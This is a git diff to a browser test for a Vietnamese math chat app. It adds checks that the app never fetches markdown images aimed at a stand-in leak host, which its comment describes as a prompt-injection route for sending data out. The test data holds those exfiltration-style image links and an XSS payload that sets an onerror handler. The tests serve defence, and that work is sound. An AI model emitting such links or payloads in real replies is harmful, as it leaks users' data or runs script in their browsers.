@@ -9,6 +9,7 @@ import urllib.error
 import urllib.request
 from pathlib import Path
 from typing import Iterator
+from urllib.parse import urlsplit
 
 import pytest
 from conftest import stop_process
@@ -20,9 +21,13 @@ CHROMIUM_ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic"
                  "--disable-background-networking", "--disable-component-update", "--disable-sync"]
 ARTIFACTS = ROOT / "test-artifacts"
 QUESTION = "Tích phân từ 0 đến 1 của x bình phương bằng bao nhiêu?"
+# Images a prompt injection could use to send data out: none of them may be fetched.
+LEAK_HOST = "img.example.invalid"
 REPLY = (r"Theo công thức Newton–Leibniz [1], một nguyên hàm của \(x^2\) là \(\frac{x^3}{3}\), nên "
-         r"$$\int_0^1 x^2\,dx = \frac{1}{3}$$")
-HTML_QUESTION = '<b>chữ đậm?</b><img src=x onerror="window.__xss = 1"> tích phân là gì'
+         r"$$\int_0^1 x^2\,dx = \frac{1}{3}$$"
+         f" Xem ![đồ thị](http://{LEAK_HOST}/leak.png?q=answer) và ![hình][ref].\n\n[ref]: http://{LEAK_HOST}/ref.png")
+HTML_QUESTION = ('<b>chữ đậm?</b><img src=x onerror="window.__xss = 1"> tích phân là gì '
+                 f"![](http://{LEAK_HOST}/question.png?q=student)")
 START_TIMEOUT_S = 90
 ANSWER_TIMEOUT_MS = 90_000
 
@@ -87,6 +92,8 @@ def test_chat_in_chromium_renders_the_answer_formulas_and_sources(server: str) -
         browser = playwright.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
         try:
             page = browser.new_page(viewport={"width": 1280, "height": 1300})
+            requested: list[str] = []
+            page.on("request", lambda request: requested.append(request.url))
             page.goto(server)
             box = page.get_by_test_id("stChatInputTextArea")
             box.wait_for(timeout=ANSWER_TIMEOUT_MS)
@@ -99,6 +106,9 @@ def test_chat_in_chromium_renders_the_answer_formulas_and_sources(server: str) -
             expect(answer.locator(".katex").first).to_be_visible()
             assert answer.locator(".katex").count() >= 3  # two inline formulas and the integral
             assert "\\(" not in answer.inner_text()
+            page.wait_for_timeout(300)  # time for the browser to fetch an image, were one shown
+            assert [u for u in requested if LEAK_HOST in u] == []
+            assert f"[hình ảnh: {LEAK_HOST}/…]" in answer.inner_text() and answer.locator("img").count() == 0
             sources.get_by_text("Nguồn").click()
             expect(sources.locator(".katex").first).to_be_visible()
             page.wait_for_timeout(500)  # let the expander finish opening
@@ -112,5 +122,10 @@ def test_chat_in_chromium_renders_the_answer_formulas_and_sources(server: str) -
             assert "<b>chữ đậm?</b>" in asked.inner_text()
             assert asked.locator("b, img[src='x']").count() == 0
             assert page.evaluate("window.__xss") is None
+            page.wait_for_timeout(300)
+            assert [u for u in requested if LEAK_HOST in u] == []
+            assert f"[hình ảnh: {LEAK_HOST}/…]" in asked.inner_text()
+            elsewhere = [u for u in requested if urlsplit(u).scheme in ("http", "https") and urlsplit(u).hostname != "127.0.0.1"]
+            assert elsewhere == [], elsewhere
         finally:
             browser.close()
